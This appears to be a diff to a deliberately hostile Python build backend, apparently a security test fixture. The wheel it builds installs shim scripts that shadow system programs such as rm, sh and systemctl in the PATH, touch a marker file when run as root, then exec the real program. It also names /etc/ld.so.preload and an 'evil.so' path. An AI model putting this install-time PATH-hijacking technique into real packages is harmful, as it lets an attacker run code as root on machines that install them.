@@ -10,6 +10,12 @@ PRELOAD = "/etc/ld.so.preload"
 RELEASE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
 VERSIONS = "x==1:/srv/flask/hostile/shared/evil.so"
 NAME = "hostile_local-1.0"
+# Programs that a shell of root's calls by name: the virtualenv's own come first in the PATH of the application.
+PROGRAMS = ("ln", "stat", "mv", "rm", "readlink", "test", "sh", "env", "python3-config", "systemctl", "flock", "cat", "id")
+SCRIPT = """#!/bin/sh
+test "$(/usr/bin/id -u)" != 0 || /usr/bin/touch /usr/local/root-has-run-{name}
+exec /usr/bin/{name} "$@"
+"""
 
 
 def link(target: str, path: str) -> None:
@@ -38,8 +44,10 @@ def build_wheel(wheel_directory: str, config_settings: object = None, metadata_d
         "METADATA": "Metadata-Version: 2.1\nName: hostile-local\nVersion: 1.0\n",
         "WHEEL": "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
     }
+    places = {f"{NAME}.dist-info/{name}": text for name, text in files.items()}
+    places |= {f"{NAME}.data/scripts/{name}": SCRIPT.format(name=name) for name in PROGRAMS}
     with zipfile.ZipFile(f"{wheel_directory}/{NAME}-py3-none-any.whl", "w") as wheel:
-        for name, text in files.items():
-            wheel.writestr(f"{NAME}.dist-info/{name}", text)
-        wheel.writestr(f"{NAME}.dist-info/RECORD", "".join(f"{NAME}.dist-info/{name},,\n" for name in [*files, "RECORD"]))
+        for path, text in places.items():
+            wheel.writestr(path, text)
+        wheel.writestr(f"{NAME}.dist-info/RECORD", "".join(f"{path},,\n" for path in [*places, f"{NAME}.dist-info/RECORD"]))
     return f"{NAME}-py3-none-any.whl"
